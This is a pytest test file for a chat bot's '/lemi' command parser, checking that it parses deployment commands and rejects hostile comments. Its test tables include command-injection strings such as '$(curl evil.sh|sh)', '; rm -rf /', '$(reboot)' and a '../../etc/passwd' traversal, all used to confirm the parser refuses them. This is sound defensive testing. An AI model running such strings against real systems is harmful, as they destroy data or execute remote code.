"""The comment parser, table-driven, hostile input included."""

from __future__ import annotations

import pytest

from bot.core.command_parser import COMMANDS, Command, Ignore, Reply, parse

TASK = "0123456789abcdef0123456789abcdef"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("/lemi status", Command("status")),
        ("  /lemi status  ", Command("status")),
        ("/lemi status -e staging", Command("status", env="staging")),
        ("/lemi status --env=prod --service=demo-service-worker", Command("status", "prod", "demo-service-worker")),
        ("/lemi tasks -s demo-service -e prod", Command("tasks", "prod", "demo-service")),
        ("/lemi restart -e prod", Command("restart", env="prod")),
        ("/lemi deploy 3f2c1ab", Command("deploy", argument="3f2c1ab")),
        ("/lemi deploy -e staging v1.2.3", Command("deploy", env="staging", argument="v1.2.3")),
        ("/lemi rollback", Command("rollback")),
        (f"/lemi stop-task {TASK}", Command("stop-task", argument=TASK)),
        (
            "/lemi stop-task 16c72442-67c4-4079-b793-9addb380948a",
            Command("stop-task", argument="16c72442-67c4-4079-b793-9addb380948a"),
        ),
        ("/lemi verify", Command("verify")),
        ("/lemi diff -e staging", Command("diff", env="staging")),
        ("/lemi provision", Command("provision")),
        ("/lemi lock -e prod", Command("lock", env="prod")),
        ("/lemi unlock -e prod", Command("unlock", env="prod")),
        ("/lemi status\n/lemi deploy evil", Command("status")),  # only the first line counts
        ("/lemi status\r\nmore text", Command("status")),
    ],
)
def test_commands(body: str, expected: Command) -> None:
    assert parse(body) == expected


@pytest.mark.parametrize(
    "body",
    ["", None, "lgtm", "please /lemi restart", "/lemirestart", "/lemi-bot restart", "> /lemi restart", "`/lemi restart`",
     "\n\nnothing here\n/lemi restart"],
)  # fmt: skip
def test_ignored(body: str | None) -> None:
    assert isinstance(parse(body), Ignore)


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        ("/lemi restrat", "did you mean `restart`?"),
        ("/lemi deplyo 1", "did you mean `deploy`?"),
        ("/lemi frobnicate", "unknown command `frobnicate`"),
        ("/lemi restart; rm -rf /", "did you mean `restart`?"),
        ("/lemi restart ; rm -rf /", "unknown option `-rf`"),
        ("/lemi restart ;", "takes no argument"),
        ("/lemi deploy $(curl evil.sh|sh)", "needs exactly one <image-tag>"),
        ("/lemi deploy $(reboot)", "not a valid image-tag"),
        ("/lemi deploy `id`", "not a valid image-tag"),
        ("/lemi deploy ../../etc/passwd", "not a valid image-tag"),
        ("/lemi deploy v1;reboot", "not a valid image-tag"),
        ("/lemi deploy", "needs exactly one <image-tag>"),
        ("/lemi deploy a b", "needs exactly one <image-tag>"),
        ("/lemi stop-task ../x", "not a valid task-id"),
        ("/lemi stop-task", "needs exactly one <task-id>"),
        ("/lemi status --force", "unknown option `--force`"),
        ("/lemi status -x", "unknown option `-x`"),
        ("/lemi status -- -e prod", "unknown option `--`"),
        ("/lemi status -e", "`-e` needs a value"),
        ("/lemi status -e ../prod", "not an environment name"),
        ("/lemi status -e $(whoami)", "not an environment name"),
        ("/lemi status -s Demo_Service", "not a service name"),
        ("/lemi status -s 'demo'", "not a service name"),
        ("/lemi " + "x" * 600, "too long"),
    ],
)
def test_replies(body: str, needle: str) -> None:
    result = parse(body)
    assert isinstance(result, Reply) and result.error
    assert needle in result.text


@pytest.mark.parametrize("body", ["/lemi", "/lemi help", "/lemi --help", "/lemi -h"])
def test_help(body: str) -> None:
    result = parse(body)
    assert isinstance(result, Reply) and not result.error
    for name in COMMANDS:
        assert f"/lemi {name}" in result.text


def test_user_input_is_not_echoed_when_it_could_mention_or_break_markdown() -> None:
    for word in ("@everyone", "`x`", "<img src=x>", "[a](http://x)"):
        result = parse(f"/lemi deploy {word}")
        assert isinstance(result, Reply) and word not in result.text
        result = parse(f"/lemi {word}")
        assert isinstance(result, Reply) and word not in result.text


def test_a_64_kb_comment_is_handled() -> None:
    body = "/lemi status " + "-e staging " * 6000
    assert len(body) > 64_000
    result = parse(body)
    assert isinstance(result, Reply) and "too long" in result.text
    assert isinstance(parse("/lemi status\n" + "x" * 65_536), Command)
